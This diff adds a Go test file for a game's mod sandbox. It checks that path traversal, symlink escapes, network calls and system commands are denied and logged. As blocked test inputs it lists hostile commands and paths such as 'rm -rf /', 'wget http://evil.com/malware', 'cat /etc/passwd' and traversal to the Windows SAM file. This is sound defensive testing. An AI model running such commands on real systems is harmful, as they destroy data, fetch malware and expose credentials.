@@ -0,0 +1,226 @@
+package mod_test
+
+import (
+	"bytes"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"muscle-dreamer/internal/mod"
+	"muscle-dreamer/internal/vfs"
+)
+
+func sandboxMod(id string, fileAccess []string, permissions ...string) *mod.Mod {
+	return &mod.Mod{ID: id, Spec: &mod.Spec{Metadata: mod.Metadata{ID: id, FileAccess: fileAccess, Permissions: permissions}}}
+}
+
+// dataFS - dir を書き込み可能なレイヤーとしてルートにマウントした仮想ファイルシステム
+func dataFS(t *testing.T, dir string) *vfs.FS {
+	t.Helper()
+	files := vfs.New()
+	require.NoError(t, files.Mount("data", vfs.Dir(dir), vfs.MountOptions{Writable: true}))
+	return files
+}
+
+// TestModSandboxSecurity - MODサンドボックスセキュリティテスト
+func TestModSandboxSecurity(t *testing.T) {
+	t.Run("FileAccessRestriction", func(t *testing.T) {
+		dir := t.TempDir()
+		log := new(bytes.Buffer)
+		sandbox := mod.NewSandbox(sandboxMod("testmod", []string{"mods/testmod/"}), dataFS(t, dir), log)
+
+		testCases := []struct {
+			name       string
+			path       string
+			shouldFail bool
+		}{
+			{"許可されたパス", "mods/testmod/data.txt", false},
+			{"許可されたパス内の移動", "mods/testmod/sub/../data2.txt", false},
+			{"パストラバーサル上", "../../../etc/passwd", true},
+			{"パストラバーサル下", "mods/testmod/../../../etc/passwd", true},
+			{"隣のMOD", "mods/testmod/../othermod/data.txt", true},
+			{"接頭辞だけ一致", "mods/testmod2/data.txt", true},
+			{"絶対パス", "/etc/passwd", true},
+			{"Nullバイト", "mods/testmod/\x00../../etc/passwd", true},
+			{"Windows形式", "mods\\testmod\\..\\..\\..\\windows\\system32", true},
+			{"ドライブ指定", "C:\\Windows\\System32\\config\\sam", true},
+			{"許可外ディレクトリ", "other/path/file.txt", true},
+		}
+
+		for _, tc := range testCases {
+			t.Run(tc.name, func(t *testing.T) {
+				err := sandbox.WriteFile(tc.path, []byte("test"))
+				_, readErr := sandbox.ReadFile(tc.path)
+
+				if tc.shouldFail {
+					assert.ErrorIs(t, err, mod.ErrAccessDenied)
+					assert.ErrorIs(t, readErr, mod.ErrAccessDenied)
+				} else {
+					assert.NoError(t, err)
+					assert.NoError(t, readErr)
+				}
+			})
+		}
+
+		data, err := os.ReadFile(filepath.Join(dir, "mods", "testmod", "data.txt"))
+		require.NoError(t, err)
+		assert.Equal(t, "test", string(data))
+		assert.NoDirExists(t, filepath.Join(dir, "mods", "othermod"))
+	})
+
+	t.Run("WritesConfinedToOwnModDirectory", func(t *testing.T) {
+		dir := t.TempDir()
+		require.NoError(t, os.MkdirAll(filepath.Join(dir, "mods", "b"), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "mods", "b", "save.dat"), []byte("b"), 0o644))
+		require.NoError(t, os.MkdirAll(filepath.Join(dir, "assets"), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "assets", "x.txt"), []byte("x"), 0o644))
+		files := dataFS(t, dir)
+
+		for _, access := range [][]string{{"mods"}, {"mods/"}, {"mods/b"}, {"mods/a", "mods/b/"}} {
+			a := mod.NewSandbox(sandboxMod("a", access), files, nil)
+			assert.ErrorIs(t, a.WriteFile("mods/b/save.dat", []byte("a")), mod.ErrAccessDenied, "%v", access)
+			_, err := a.ReadFile("mods/b/save.dat")
+			assert.ErrorIs(t, err, mod.ErrAccessDenied, "%v", access)
+		}
+		data, err := os.ReadFile(filepath.Join(dir, "mods", "b", "save.dat"))
+		require.NoError(t, err)
+		assert.Equal(t, "b", string(data))
+
+		a := mod.NewSandbox(sandboxMod("a", []string{"mods", "assets"}), files, nil)
+		require.NoError(t, a.WriteFile("mods/a/save.dat", []byte("a")), "mods 全体は自分のディレクトリに狭める")
+		_, err = a.ReadFile("assets/x.txt")
+		assert.NoError(t, err, "ゲームのファイルは読める")
+		assert.ErrorIs(t, a.WriteFile("assets/x.txt", []byte("a")), mod.ErrAccessDenied, "mods/<ID> の外には書き込めない")
+	})
+
+	t.Run("SymlinkResolution", func(t *testing.T) {
+		dir, outside := t.TempDir(), t.TempDir()
+		require.NoError(t, os.MkdirAll(filepath.Join(dir, "mods", "testmod"), 0o755))
+		require.NoError(t, os.MkdirAll(filepath.Join(dir, "mods", "othermod"), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "mods", "othermod", "save.dat"), []byte("other"), 0o644))
+		if err := os.Symlink(filepath.Join("..", "othermod"), filepath.Join(dir, "mods", "testmod", "other")); err != nil {
+			t.Skipf("シンボリックリンクを作れません: %v", err)
+		}
+		require.NoError(t, os.Symlink(outside, filepath.Join(dir, "mods", "testmod", "outside")))
+		require.NoError(t, os.Symlink("data", filepath.Join(dir, "mods", "testmod", "current")))
+		require.NoError(t, os.MkdirAll(filepath.Join(dir, "mods", "testmod", "data"), 0o755))
+
+		sandbox := mod.NewSandbox(sandboxMod("testmod", []string{"mods/testmod"}), dataFS(t, dir), nil)
+
+		_, err := sandbox.ReadFile("mods/testmod/other/save.dat")
+		assert.ErrorIs(t, err, mod.ErrAccessDenied, "file_access の外を指すリンク")
+		assert.ErrorIs(t, sandbox.WriteFile("mods/testmod/outside/x.txt", []byte("x")), mod.ErrAccessDenied, "ディレクトリの外を指すリンク")
+		assert.NoFileExists(t, filepath.Join(outside, "x.txt"))
+
+		require.NoError(t, sandbox.WriteFile("mods/testmod/current/slot1.dat", []byte("save")), "範囲内を指すリンクは辿る")
+		assert.FileExists(t, filepath.Join(dir, "mods", "testmod", "data", "slot1.dat"))
+	})
+
+	t.Run("NetworkAccessRestriction", func(t *testing.T) {
+		sandbox := mod.NewSandbox(sandboxMod("NetworkRestrictedMod", nil), nil, nil)
+
+		networkTests := []struct {
+			name     string
+			testFunc func() error
+		}{
+			{"HTTP GET", func() error { _, err := sandbox.HTTPGet("http://evil.com"); return err }},
+			{"HTTPS GET", func() error { _, err := sandbox.HTTPGet("https://evil.com"); return err }},
+			{"TCP Connect", func() error { _, err := sandbox.TCPConnect("evil.com:80"); return err }},
+			{"UDP Connect", func() error { _, err := sandbox.UDPConnect("evil.com:53"); return err }},
+			{"DNS Lookup", func() error { _, err := sandbox.DNSLookup("evil.com"); return err }},
+		}
+
+		for _, test := range networkTests {
+			t.Run(test.name, func(t *testing.T) {
+				err := test.testFunc()
+				assert.ErrorIs(t, err, mod.ErrNetworkAccessDenied)
+			})
+		}
+	})
+
+	t.Run("NetworkAccessGranted", func(t *testing.T) {
+		l, err := net.Listen("tcp", "127.0.0.1:0")
+		if err != nil {
+			t.Skipf("ローカルで待ち受けできません: %v", err)
+		}
+		defer l.Close()
+
+		sandbox := mod.NewSandbox(sandboxMod("online", nil, mod.PermNetworkAccess), nil, nil)
+		conn, err := sandbox.TCPConnect(l.Addr().String())
+		require.NoError(t, err)
+		conn.Close()
+	})
+
+	t.Run("HTTPGetLimitsBodySize", func(t *testing.T) {
+		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			size := mod.MaxHTTPBodySize
+			if r.URL.Path == "/large" {
+				size++
+			}
+			w.Write(bytes.Repeat([]byte("x"), size))
+		}))
+		defer server.Close()
+
+		sandbox := mod.NewSandbox(sandboxMod("online", nil, mod.PermNetworkAccess), nil, nil)
+		data, err := sandbox.HTTPGet(server.URL + "/ok")
+		require.NoError(t, err)
+		assert.Len(t, data, mod.MaxHTTPBodySize)
+
+		_, err = sandbox.HTTPGet(server.URL + "/large")
+		assert.ErrorContains(t, err, "上限")
+	})
+
+	t.Run("SystemCommandRestriction", func(t *testing.T) {
+		sandbox := mod.NewSandbox(sandboxMod("SystemRestrictedMod", nil), nil, nil)
+
+		dangerousCommands := []struct {
+			name string
+			cmd  string
+			args []string
+		}{
+			{"ファイル削除", "rm", []string{"-rf", "/"}},
+			{"システム情報", "cat", []string{"/etc/passwd"}},
+			{"ネットワーク", "wget", []string{"http://evil.com/malware"}},
+			{"シェル実行", "sh", []string{"-c", "echo pwned"}},
+			{"プロセス表示", "ps", []string{"aux"}},
+		}
+
+		for _, cmd := range dangerousCommands {
+			t.Run(cmd.name, func(t *testing.T) {
+				err := sandbox.ExecuteCommand(cmd.cmd, cmd.args...)
+				assert.ErrorIs(t, err, mod.ErrSystemAccessDenied)
+			})
+		}
+
+		granted := mod.NewSandbox(sandboxMod("tool", nil, mod.PermSystemAccess), nil, nil)
+		err := granted.ExecuteCommand("muscle-dreamer-no-such-command")
+		assert.Error(t, err, "権限があればコマンドを探して実行する")
+		assert.NotErrorIs(t, err, mod.ErrSystemAccessDenied)
+	})
+
+	t.Run("DenialsAreLoggedWithModID", func(t *testing.T) {
+		log := new(bytes.Buffer)
+		sandbox := mod.NewSandbox(sandboxMod("sneaky", []string{"mods/sneaky"}), dataFS(t, t.TempDir()), log)
+
+		require.NoError(t, sandbox.WriteFile("mods/sneaky/ok.txt", []byte("ok")))
+		assert.Error(t, sandbox.WriteFile("../escape.txt", nil))
+		_, err := sandbox.HTTPGet("http://evil.com")
+		assert.Error(t, err)
+		assert.Error(t, sandbox.ExecuteCommand("sh", "-c", "echo pwned"))
+
+		lines := strings.Split(strings.TrimSpace(log.String()), "\n")
+		require.Len(t, lines, 3, "許可した操作は記録しない")
+		for _, line := range lines {
+			assert.True(t, strings.HasPrefix(line, "[sneaky] "), line)
+		}
+		assert.Contains(t, lines[0], "../escape.txt")
+		assert.Contains(t, lines[2], "sh -c echo pwned")
+	})
+}